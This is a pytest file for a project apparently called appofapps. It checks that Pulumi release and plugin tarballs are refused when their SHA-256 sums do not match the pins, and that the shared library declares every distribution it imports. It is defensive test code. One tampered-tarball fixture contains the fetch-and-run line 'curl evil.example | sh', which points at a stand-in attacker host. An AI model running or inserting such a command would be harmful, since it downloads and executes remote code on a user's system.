"""Supply chain: official release files are checked against pinned SHA-256 sums, and the shared library declares
every distribution it imports."""

from __future__ import annotations

import ast
import hashlib
import io
import re
import sys
import tarfile
import tomllib
from dataclasses import replace
from importlib import metadata
from pathlib import Path

import pytest
from engine_helpers import REPO_ROOT

from appofapps.engine import bootstrap
from appofapps.engine.bootstrap import ChecksumMismatch, fetch_verified
from appofapps.engine.pins import EnginePins

SHARED = REPO_ROOT / "shared"
VERSION = "3.274.1"


def release_tarball(directory: Path, name: str, payload: bytes) -> Path:
    """A tarball shaped like Pulumi's: ``pulumi/pulumi`` and its language host inside."""
    path = directory / name
    with tarfile.open(path, "w:gz") as tar:
        for member in ("pulumi/pulumi", "pulumi/pulumi-language-python"):
            info = tarfile.TarInfo(member)
            info.size = len(payload)
            info.mode = 0o755
            tar.addfile(info, io.BytesIO(payload))
    return path


@pytest.fixture
def mirror(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Path:
    """A local mirror of get.pulumi.com/releases served from file://; the bootstrap reads it as a mirror."""
    root = tmp_path / "releases"
    (root / "sdk").mkdir(parents=True)
    monkeypatch.setenv(bootstrap.RELEASES_VARIABLE, root.as_uri())
    return root


def _file_name() -> str:
    system, arch = bootstrap._platform_tag()
    return f"pulumi-v{VERSION}-{system}-{arch}.tar.gz"


def test_a_release_matching_its_pin_is_installed(mirror: Path, tmp_path: Path) -> None:
    name = _file_name()
    good = release_tarball(mirror / "sdk", name, b"#!/bin/sh\necho v3.274.1\n")
    pins = replace(EnginePins.load(REPO_ROOT), sha256={name: hashlib.sha256(good.read_bytes()).hexdigest()})
    bin_dir = tmp_path / "bin"
    logged: list[str] = []
    assert bootstrap._install_official_cli(VERSION, bin_dir, logged.append, pins)
    assert (bin_dir / "pulumi").read_bytes() == b"#!/bin/sh\necho v3.274.1\n"
    assert f"{name}: SHA-256 matches the pin" in logged


def test_a_tampered_release_is_refused_and_never_unpacked(mirror: Path, tmp_path: Path) -> None:
    name = _file_name()
    genuine = hashlib.sha256(b"the release Pulumi published").hexdigest()
    release_tarball(mirror / "sdk", name, b"#!/bin/sh\ncurl evil.example | sh\n")
    pins = replace(EnginePins.load(REPO_ROOT), sha256={name: genuine})
    bin_dir = tmp_path / "bin"
    with pytest.raises(ChecksumMismatch) as refused:
        bootstrap._install_official_cli(VERSION, bin_dir, lambda _: None, pins)
    message = str(refused.value)
    assert f"pins {genuine} for {name}" in message and "[tool.appofapps.engine.sha256]" in message
    assert not bin_dir.exists() or not any(bin_dir.iterdir()), "a refused release left files behind"


def test_a_release_without_a_pin_is_not_used(mirror: Path, tmp_path: Path) -> None:
    name = _file_name()
    release_tarball(mirror / "sdk", name, b"anything")
    logged: list[str] = []
    dest = tmp_path / "download"
    assert not fetch_verified(
        f"{mirror.as_uri()}/sdk/{name}", dest, replace(EnginePins.load(REPO_ROOT), sha256={}), logged.append
    )
    assert not dest.exists()
    assert any("no SHA-256 pinned" in line for line in logged)


def test_a_tampered_plugin_tarball_is_refused(mirror: Path, tmp_path: Path) -> None:
    pins = EnginePins.load(REPO_ROOT)
    system, arch = bootstrap._platform_tag()
    name = (
        f"pulumi-resource-kubernetes-v{pins.kubernetes}-{system}-{ {'x64': 'amd64'}.get(arch, arch) }.tar.gz"
    )
    (mirror / "plugins").mkdir()
    release_tarball(mirror / "plugins", name, b"not the provider")
    out = tmp_path / "plugin"
    out.mkdir()
    with pytest.raises(ChecksumMismatch):
        bootstrap._official_plugin(replace(pins, sha256={name: "0" * 64}), out, lambda _: None)
    assert list(out.iterdir()) == []


def test_the_pins_table_holds_only_sha256_digests() -> None:
    pins = EnginePins.load(REPO_ROOT)
    for name, digest in pins.sha256.items():
        assert name.endswith(".tar.gz") and re.fullmatch(r"[0-9a-f]{64}", digest), name


# ---------------------------------------------------------------- every import declared


def _imported_distributions() -> dict[str, set[str]]:
    """Distribution -> the modules of the shared library that import it (stdlib and appofapps left out)."""
    found: dict[str, set[str]] = {}
    owners = metadata.packages_distributions()
    for path in (SHARED / "src" / "appofapps").rglob("*.py"):
        tree = ast.parse(path.read_text(encoding="utf-8"))
        for node in ast.walk(tree):
            if isinstance(node, ast.Import):
                names = [alias.name for alias in node.names]
            elif isinstance(node, ast.ImportFrom) and node.level == 0 and node.module:
                names = [node.module]
            else:
                continue
            for name in names:
                top = name.partition(".")[0]
                if top in sys.stdlib_module_names or top in ("appofapps", "__future__"):
                    continue
                for distribution in owners.get(top, [f"<no installed distribution provides {top}>"]):
                    found.setdefault(_normal(distribution), set()).add(str(path.relative_to(SHARED)))
    return found


def _normal(name: str) -> str:
    return re.sub(r"[-_.]+", "-", name).lower()


def test_every_distribution_the_shared_library_imports_is_declared() -> None:
    project = tomllib.loads((SHARED / "pyproject.toml").read_text(encoding="utf-8"))["project"]
    declared = {_normal(re.split(r"[<>=!~ \[;]", spec, maxsplit=1)[0]) for spec in project["dependencies"]}
    missing = {d: sorted(files) for d, files in _imported_distributions().items() if d not in declared}
    assert not missing, (
        f"imported by shared/ but not in shared/pyproject.toml [project] dependencies: {missing}"
    )
